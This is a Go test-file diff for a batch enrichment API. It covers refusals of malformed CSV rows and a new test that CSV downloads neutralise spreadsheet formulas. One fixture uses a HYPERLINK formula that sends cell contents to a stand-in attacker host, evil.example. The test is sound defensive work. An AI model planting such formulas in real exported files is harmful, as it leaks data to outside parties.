@@ -202,6 +202,9 @@ func TestBatchBoundsAndRefusals(t *testing.T) {
 		{"not UTF-8", "text/csv", "domain\nacme\xff.com\n", "", 400, "invalid_input", "not valid UTF-8"},
 		{"JSON line not an object", "application/x-ndjson", "[1]\n", "", 400, "invalid_input", "1 of 1 rows are refused"},
 		{"too many rows", "text/csv", "domain\n" + strings.Repeat("acme.com\n", 10001), "", 400, "invalid_input", "more than 10000 rows"},
+		// 10,000 rows, 5,000 of them of the wrong width: each refusal is listed, and the
+		// file is not taken for one of more than 10,000 rows.
+		{"rows of the wrong width at the row bound", "text/csv", "domain,owner\n" + strings.Repeat("acme.com\nacme.com,ann\n", 5000), "", 400, "invalid_input", "5000 of 10000 rows are refused"},
 		{"too large", "text/csv", "domain,pad\n" + strings.Repeat("acme.com,"+strings.Repeat("x", 600)+"\n", 9000), "", 400, "invalid_input", "larger than 5 MiB"},
 		{"more than the balance", "text/csv", "email\n" + strings.Repeat("ann@acme.com\n", 34), "", 402, "insufficient_credits", "costs 102 and 100 remain"},
 	} {
@@ -210,13 +213,22 @@ func TestBatchBoundsAndRefusals(t *testing.T) {
 			t.Errorf("%s: %d %s", c.name, r.status, r.raw)
 		}
 	}
+	// Rows of the wrong width are numbered as the rows they are.
+	r := e.uploadCSV("domain,owner\nacme.com\nacme.com\nacme.com,ann\nacme.com\n", "")
+	is.Equal(r.status, 400)
+	var numbers []any
+	for _, row := range r.get("rows").([]any) {
+		numbers = append(numbers, row.(map[string]any)["row"])
+	}
+	is.Equal(numbers, []any{float64(1), float64(2), float64(4)})
+
 	is.Equal(e.do("GET", "/v1/batches", nil).get("total"), float64(0))
 	is.Equal(e.do("GET", "/v1/tasks", nil).get("total"), float64(0))
 	is.Equal(e.balance("acme").Balance, int64(100))
 
 	// Another organization's batch, and an id that is none, are not found. (A kept
 	// column may hold any text, a NUL too: it is kept as sent.)
-	r := e.uploadCSV("domain,note\nacme.com,a\x00b\n", "")
+	r = e.uploadCSV("domain,note\nacme.com,a\x00b\n", "")
 	is.Equal(r.status, 202)
 	otherKey, _ := e.newOrg("other", 10)
 	for _, path := range []string{"/v1/batches/" + r.str("data.id"), "/v1/batches/" + r.str("data.id") + "/results", "/v1/batches/nope"} {
@@ -346,4 +358,35 @@ func TestBatchDoesNotHoldUpAnotherOrganization(t *testing.T) {
 	}
 	is.True(claimed[0] == q.str("task.id") || claimed[1] == q.str("task.id"))
 	is.True(count(e.do("GET", "/v1/batches/"+r.str("data.id"), nil), "queued") >= 98)
+}
+
+// A cell that a spreadsheet would run as a formula (it starts with = + - @, a tab or a
+// carriage return) is written with a leading apostrophe in a downloaded CSV, whether
+// it came from the upload or from a source's result; a number stays a number, and
+// JSON Lines keeps every value as it is.
+func TestBatchResultsCSVDefusesFormulas(t *testing.T) {
+	is := is.New(t)
+	e := newEnv(t)
+	c := company("Acme", "acme.com")
+	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"Acme")`
+	e.net.addCompany(c)
+	e.startWorkers()
+
+	r := e.uploadCSV("domain,owner,note,score\nacme.com,@SUM(1+1),+1 555 0100,-12.5\n", "")
+	is.Equal(r.status, http.StatusAccepted)
+	id := r.str("data.id")
+	e.waitBatchDone(id)
+
+	recs := readCSV(t, e.do("GET", "/v1/batches/"+id+"/results", nil).raw)
+	is.Equal(len(recs), 2)
+	is.Equal(recs[1][:4], []string{"acme.com", "'@SUM(1+1)", "'+1 555 0100", "-12.5"})
+	is.Equal(recs[1][4], "succeeded")
+	is.Equal(recs[0][8], "enrichd_name")
+	is.Equal(recs[1][8], `'=HYPERLINK("http://evil.example/?"&A1,"Acme")`)
+
+	jl := e.do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
+	var row map[string]string
+	is.NoErr(json.Unmarshal(jl.raw, &row))
+	is.Equal(row["owner"], "@SUM(1+1)")
+	is.Equal(row["enrichd_name"], c.Name)
 }
